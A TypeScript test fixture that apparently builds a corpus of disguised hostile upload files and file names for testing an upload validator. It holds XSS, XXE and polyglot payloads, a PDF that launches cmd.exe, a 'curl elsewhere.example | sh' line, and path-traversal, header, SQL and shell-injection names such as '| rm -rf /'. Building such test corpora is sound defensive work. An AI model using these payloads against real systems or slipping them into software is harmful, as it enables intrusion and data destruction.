import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { pageOf } from '../world/one-page.ts'

/** A file meant to run in another person's browser. */
export type HostileFile = { what: string; name: string; bytes: Buffer }

/** In everything that would run; a redrawn picture does not contain it. */
export const SCRIPT = 'alert(434042)'

const TAG = `<script>${SCRIPT}</script>`

/** Texts that some browser has run, whatever their name. */
const ACTIVE: Readonly<Record<string, string>> = {
  'a page': `<!doctype html><html><body>${TAG}</body></html>`,
  'a page without a head': `<body onload="${SCRIPT}">`,
  'a lone script': TAG,
  'a frame': `<iframe srcdoc="${TAG.replaceAll('<', '&lt;')}"></iframe>`,
  'a drawing': `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"/>`,
  'a drawing with a prologue': `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`,
  'a drawing with a page in it': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${SCRIPT}"/></foreignObject></svg>`,
  'a strict page': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${TAG}</html>`,
  'a styled document': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html>${TAG}</html></xsl:template></xsl:stylesheet></d>`,
  'a document with an entity': `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><html xmlns="http://www.w3.org/1999/xhtml">&e;${TAG}</html>`,
  'a page in a letter': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${TAG}\r\n--b--\r\n`,
  'a program': `/*<!--*/${SCRIPT}//-->`,
  'a style sheet': `body{background:url("javascript:${SCRIPT}")}`,
  'a page of a server': `<?php system('id'); ?>${TAG}`,
  'an application of Windows': `<html><hta:application id="x"><script language="VBScript">${SCRIPT}</script></html>`,
}

const DISGUISES = ['pdf', 'png', 'jpg', 'tif'] as const

/** The same text in other encodings, or behind bytes that hide it from a check of the first few. */
const SPELLINGS: Readonly<Record<string, (text: string) => Buffer>> = {
  'as it is': (text) => Buffer.from(text),
  'with a mark of UTF-8': (text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]),
  'as UTF-16': (text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
  'as UTF-16, the other way round': (text) =>
    Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]),
  'as UTF-16 without a mark': (text) => Buffer.from(text, 'utf16le'),
  'as UTF-32': (text) =>
    Buffer.concat([
      Buffer.from([0xff, 0xfe, 0, 0]),
      ...[...text].map((sign) => Buffer.from([sign.charCodeAt(0), 0, 0, 0])),
    ]),
  'as UTF-7': (text) => Buffer.from(text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')),
  'behind blanks': (text) => Buffer.from(`${' \t\r\n'.repeat(300)}${text}`),
  'behind zeros': (text) => Buffer.concat([Buffer.alloc(16), Buffer.from(text)]),
  'behind a comment': (text) => Buffer.from(`<!--${'x'.repeat(1_200)}-->${text}`),
  'behind the sign of a PDF': (text) => Buffer.from(`%PDF-1.7\n${text}`),
  'behind the sign of a GIF': (text) => Buffer.from(`GIF89a/*${text}`),
  'before the sign of a PDF': (text) => Buffer.from(`${text}\n%PDF-1.7\n`),
  'in a package': (text) => gzipSync(text),
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** After a PNG's header, where image readers skip it. */
function inPng(png: Buffer, ...chunks: Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])
}

/** A JPEG segment after its start. */
function inJpeg(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)])
}

function pdf(objects: string): Buffer {
  return Buffer.from(`%PDF-1.7\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF\n`)
}

const ZIP = Buffer.concat([
  Buffer.from('PK\u0003\u0004\u0014\0\0\0\0\0', 'latin1'),
  Buffer.from('META-INF/MANIFEST.MF'),
  Buffer.from(`PK\u0005\u0006${TAG}`, 'latin1'),
])

/** Files that are two things at once, carry extra content, or are programs. */
async function doubleFaced(): Promise<Record<string, Buffer>> {
  const canvas = sharp({ create: { width: 64, height: 64, channels: 3, background: '#268' } })
  const [png, jpeg, gif, tiff, webp] = await Promise.all([
    canvas.clone().png().toBuffer(),
    canvas.clone().jpeg().toBuffer(),
    canvas.clone().gif().toBuffer(),
    canvas.clone().tiff().toBuffer(),
    canvas.clone().webp().toBuffer(),
  ])
  const page = Buffer.from(TAG)
  const packed = deflateSync(page)
  return {
    'a PDF that runs when it is opened': pdf(
      `1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${SCRIPT})>>>>endobj`,
    ),
    'a PDF that starts a program': pdf('1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'),
    'a PDF that sends what is entered': pdf(
      `1 0 obj<</Type/Catalog/AA<</WC<</S/SubmitForm/F(https://elsewhere.example)>>>>>>endobj`,
    ),
    'a whole PDF with a web page behind it': Buffer.concat([pageOf('Signed'), page]),
    'a PDF with a page behind it': Buffer.concat([pdf('1 0 obj<</Type/Catalog>>endobj'), page]),
    'a PDF with a page in a stream': pdf(
      `1 0 obj<</Type/Catalog>>endobj 2 0 obj<</Length ${page.length}>>stream\n${TAG}\nendstream endobj`,
    ),
    'a PDF with a package behind it': Buffer.concat([pdf('1 0 obj<</Type/Catalog>>endobj'), ZIP]),
    'a PDF behind other bytes': Buffer.concat([Buffer.alloc(900, 0x20), pdf('1 0 obj<</Type/Catalog>>endobj')]),
    'a PNG with a page in a remark': inPng(png, chunk('tEXt', Buffer.from(`Comment\0${TAG}`))),
    'a PNG with a packed page in a remark': inPng(
      png,
      chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), packed])),
    ),
    'a PNG with a page in a remark of any language': inPng(
      png,
      chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${TAG}`)),
    ),
    'a PNG with a page behind it': Buffer.concat([png, page]),
    'a PNG with a package behind it': Buffer.concat([png, ZIP]),
    'a PNG that ends after its sign': Buffer.concat([png.subarray(0, 8), page]),
    'a PNG with a wrong sum': Buffer.concat([png.subarray(0, 29), Buffer.from('abcd'), page]),
    'a JPEG with a page in a comment': inJpeg(jpeg, 0xfe, page),
    'a JPEG with a page in its origin': inJpeg(jpeg, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), page])),
    'a JPEG with a page in its history': inJpeg(jpeg, 0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0${TAG}`)),
    'a JPEG with a page in its colours': inJpeg(jpeg, 0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0'), page])),
    'a JPEG with a page behind it': Buffer.concat([jpeg, page]),
    'a JPEG with a package behind it': Buffer.concat([jpeg, ZIP]),
    'a JPEG that ends after its sign': Buffer.concat([jpeg.subarray(0, 4), page]),
    'a JPEG that is a program too': inJpeg(jpeg, 0xfe, Buffer.from(`*/=${SCRIPT};/*`)),
    'a TIFF with a page behind it': Buffer.concat([tiff, page]),
    'a TIFF that ends after its sign': Buffer.concat([tiff.subarray(0, 8), page]),
    'a GIF that is a program too': Buffer.from(`GIF89a/*\0\0*/=1;${SCRIPT}`, 'latin1'),
    'a GIF with a package behind it': Buffer.concat([gif, ZIP]),
    'a GIF with a page behind it': Buffer.concat([gif, page]),
    'a WebP with a page behind it': Buffer.concat([webp, page]),
    'a BMP that is a program too': Buffer.from(`BM=1;${SCRIPT}`),
    'an icon with a page in it': Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), page]),
    'a package': ZIP,
    'a film of Flash': Buffer.concat([Buffer.from('FWS\u0009', 'latin1'), page]),
    'a packed film of Flash': Buffer.concat([Buffer.from('CWS\u0009', 'latin1'), packed]),
    'a class of Java': Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), page]),
    'a module of WebAssembly': Buffer.concat([Buffer.from('\0asm\u0001\0\0\0', 'latin1'), page]),
    'a program of Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(60), Buffer.from('PE\0\0'), page]),
    'a program of Linux': Buffer.concat([Buffer.from('\u007fELF', 'latin1'), page]),
    'a script of a shell': Buffer.from(`#!/bin/sh\ncurl elsewhere.example | sh # ${TAG}`),
    'a shortcut': Buffer.from(`[InternetShortcut]\r\nURL=javascript:${SCRIPT}\r\n`),
    'a compound document': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), page]),
    'a PostScript': Buffer.from(`%!PS-Adobe-3.0\n(${TAG}) run\n`),
    'nothing but zeros': Buffer.alloc(600),
  }
}

/** Over 300 files, each named as something else. Texts in every encoding; double-faced files under every disguise. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const files: HostileFile[] = []
  for (const [what, text] of Object.entries(ACTIVE))
    for (const [spelling, spelled] of Object.entries(SPELLINGS)) {
      const disguise = DISGUISES[files.length % DISGUISES.length] ?? 'pdf'
      files.push({ what: `${what}, ${spelling}`, name: `rate confirmation.${disguise}`, bytes: spelled(text) })
    }
  for (const [what, bytes] of Object.entries(await doubleFaced()))
    for (const disguise of DISGUISES) files.push({ what: `${what}, as ${disguise}`, name: `signed.${disguise}`, bytes })
  for (const name of [
    'coi.html',
    'coi.svg',
    'coi.pdf.html',
    'coi.html;.pdf.js',
    'coi.pdf.',
    'coi',
    'coi.xhtml',
    'coi.mht',
  ])
    files.push({ what: `a good PDF called ${name}`, name, bytes: pdf('1 0 obj<</Type/Catalog>>endobj') })
  return files
}

const NAMES = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  'C:\\autoexec.bat',
  '\\\\elsewhere\\share\\x',
  'file:///etc/passwd',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252fetc',
  '..%c0%af..%c0%afetc',
  '.',
  '..',
  '~root',
  '.htaccess',
  '.env',
  'a"\r\nSet-Cookie: sid=stolen',
  'a\nContent-Type: text/html\n\n<script>alert(1)</script>',
  'a\rX-Injected: 1',
  "a''; filename=evil.html; x='",
  'a"; filename="evil.html',
  "UTF-8''evil.html",
  'a\u0000.html',
  'a\u0008\u0008b',
  'a\u001b[31mred',
  'a\u202efdp.exe',
  'a\u200bb\u2060c',
  '\ufeffname',
  'e\u0301\u0301\u0301\u0301',
  '名前 の 書類',
  'مستند',
  '👩‍🚚'.repeat(20),
  '\ud800 half a sign',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'; drop table stored_file; --",
  '$(reboot)',
  '`reboot`',
  '| rm -rf /',
  '; shutdown',
  '{{7*7}}',
  // What other languages' templates would fill in.
  '$\u007b7*7}',
  '%s%s%s%n',
  '=HYPERLINK("https://elsewhere.example")',
  'CON',
  'NUL',
  'COM1',
  'LPT1.txt',
  '__proto__',
  'constructor',
  'x'.repeat(190),
] as const

/** Two hundred names that have broken headers, shells, paths or tables somewhere; each plain and in three variants. */
export function hostileNames(extension: string): string[] {
  return NAMES.flatMap((name) => [
    `${name}.${extension}`,
    `${name}/a.${extension}`,
    `a${name.slice(0, 150)}.html.${extension}`,
    `  ${name} .${extension}  `,
  ])
}
